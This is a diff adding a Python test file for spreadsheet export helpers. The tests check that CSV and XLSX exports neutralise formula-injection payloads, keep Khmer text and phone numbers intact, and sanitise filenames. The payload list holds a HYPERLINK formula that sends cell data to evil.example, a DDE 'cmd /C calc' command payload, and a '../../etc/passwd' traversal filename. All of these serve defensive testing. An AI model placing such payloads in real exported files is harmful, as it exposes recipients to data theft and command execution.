@@ -1,0 +1,104 @@
+"""Spreadsheet exports: formula payloads cannot run, Khmer survives, phone numbers stay readable."""
+
+import csv
+import io
+import zipfile
+
+import pytest
+from openpyxl import load_workbook
+
+from documents.exports import csv_response, is_phone_number, safe_cell, safe_filename, xlsx_response
+
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2",
+    "@SUM(1)",
+    "\tx",
+    "\rx",
+    "=cmd|' /C calc'!A0",
+]
+KHMER = "ក្រសួងប្រៃសណីយ៍និងទូរគមនាគមន៍"
+PHONES = ["+855 12 345 678", "+855-12-345-678", "+66 (2) 123 4567", "+84.24.3825.1234"]
+
+
+def _csv_rows(response) -> list[list[str]]:
+    content = response.content
+    assert content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_safe_cell_prefixes_formula_payloads(payload):
+    assert safe_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("phone", PHONES)
+def test_safe_cell_keeps_phone_numbers_readable(phone):
+    assert is_phone_number(phone)
+    assert safe_cell(phone) == phone
+
+
+@pytest.mark.parametrize("value", ["+1+1", "+1", "+855 12 345 678 9012 3456", "+855 HELLO", "+85512345678=1"])
+def test_safe_cell_does_not_take_formulas_for_phone_numbers(value):
+    assert not is_phone_number(value)
+    assert safe_cell(value).startswith("'")
+
+
+def test_safe_cell_keeps_plain_values():
+    assert safe_cell("Ministry of Posts") == "Ministry of Posts"
+    assert safe_cell(KHMER) == KHMER
+    assert safe_cell(None) == ""
+    assert safe_cell(-2) == -2
+    assert safe_cell(True) == "yes"
+    assert safe_cell("a=b") == "a=b"
+
+
+def test_safe_filename_keeps_only_harmless_characters():
+    assert safe_filename('ATF27 registrations "x"\r\n.csv') == "ATF27_registrations_x_.csv"
+    assert safe_filename("../../etc/passwd") == "etc_passwd"
+    assert safe_filename("") == "export"
+
+
+def test_csv_response_neutralises_payloads_and_keeps_khmer_and_phones():
+    response = csv_response(
+        "people list.csv", ["name", "phone"], [[p, "+855 12 345 678"] for p in PAYLOADS] + [[KHMER, ""]]
+    )
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="people_list.csv"'
+    rows = _csv_rows(response)
+    assert rows[0] == ["name", "phone"]
+    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
+        assert row[0] == "'" + payload
+        assert row[1] == "+855 12 345 678"
+    assert rows[-1][0] == KHMER
+    for row in rows[1:]:
+        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_xlsx_response_writes_every_cell_as_text():
+    response = xlsx_response(
+        "people.xlsx",
+        ["name", "phone"],
+        [[p, "+855 12 345 678"] for p in PAYLOADS] + [[KHMER, 42]],
+        "Registrations: ATF/27",
+    )
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response["Content-Disposition"] == 'attachment; filename="people.xlsx"'
+    workbook = load_workbook(io.BytesIO(response.content))
+    sheet = workbook.active
+    assert sheet.title == "Registrations  ATF 27"
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type == "s", (cell.coordinate, cell.value)
+    # XML turns a carriage return into a line feed; the cell is still text.
+    expected = [payload.replace("\r", "\n") for payload in PAYLOADS]
+    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(PAYLOADS))] == expected
+    assert sheet.cell(row=2, column=2).value == "+855 12 345 678"
+    assert sheet.cell(row=len(PAYLOADS) + 2, column=1).value == KHMER
+    assert sheet.cell(row=len(PAYLOADS) + 2, column=2).value == "42"
+    assert sheet.cell(row=2, column=1).quotePrefix
+    # No formula anywhere in the file itself.
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
